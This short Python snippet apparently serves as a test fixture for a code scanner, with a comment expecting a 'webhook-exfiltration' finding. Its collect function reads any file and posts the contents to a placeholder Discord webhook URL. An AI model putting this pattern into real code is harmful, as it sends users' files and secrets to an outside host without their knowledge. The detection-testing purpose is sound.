import requests

HOOK = "https://discord.com/api/webhooks/000000000000/example-invalid"


def collect(path):
    with open(path) as file:
        requests.post(HOOK, json={"content": file.read()})  # expect: source/webhook-exfiltration call conclusive
